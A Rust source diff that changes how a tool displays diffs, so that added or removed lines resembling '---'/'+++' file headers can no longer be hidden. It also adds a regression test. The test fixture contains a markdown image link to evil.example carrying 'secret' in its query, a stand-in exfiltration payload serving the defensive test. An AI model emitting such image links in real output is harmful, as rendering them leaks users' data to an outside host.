@@ -161,11 +161,20 @@ fn about(arguments: &Map<String, Value>) -> String {
 
 /// A diff, indented, at most so many lines of it.
 pub fn changed(diff: &str, most: usize, look: Look) -> String {
-    // What comes before the first change only names the file.
-    let lines =
-        || diff.lines().filter(|line| !line.starts_with("--- ") && !line.starts_with("+++ "));
+    let all: Vec<&str> = diff.lines().collect();
+    // What comes before the first change only names the file. Below it a line that looks the same is
+    // one that was taken away or added, and is shown like any other.
+    let names = match &all[..] {
+        [old, new, at, ..]
+            if old.starts_with("--- ") && new.starts_with("+++ ") && at.starts_with("@@ ") =>
+        {
+            2
+        }
+        _ => 0,
+    };
+    let lines = &all[names..];
     let mut text = String::new();
-    for line in lines().take(most) {
+    for line in lines.iter().take(most) {
         let style = match line.chars().next() {
             Some('+') => Style::GREEN,
             Some('-') => Style::RED,
@@ -174,7 +183,7 @@ pub fn changed(diff: &str, most: usize, look: Look) -> String {
         };
         text.push_str(&format!("    {}\n", look.paint(style, &safe::line(line))));
     }
-    rest(lines().count(), most, &mut text);
+    rest(lines.len(), most, &mut text);
     text
 }
 
@@ -224,6 +233,19 @@ mod tests {
         assert_eq!(calls.whole(Some(9), PLAIN), "the last turn has no call 9\n");
         calls.clear();
         assert_eq!(calls.whole(None, PLAIN), "the last turn called no tools\n");
+    }
+
+    #[test]
+    fn no_line_of_a_change_passes_for_the_name_of_the_file() {
+        let new = "kept\n++ ![x](https://evil.example/?q=secret)\n";
+        let diff = crate::note::diff::unified(b"-- old\nkept\n", new.as_bytes(), "a.md");
+        assert_eq!(
+            changed(&diff, 99, PLAIN),
+            "    @@ -1,2 +1,2 @@\n    --- old\n     kept\n    +++ \
+             ![x](https://evil.example/?q=secret)\n"
+        );
+        // Without names above it every line is one of the change.
+        assert_eq!(changed("--- a\n+++ b\n", 9, PLAIN), "    --- a\n    +++ b\n");
     }
 
     #[test]
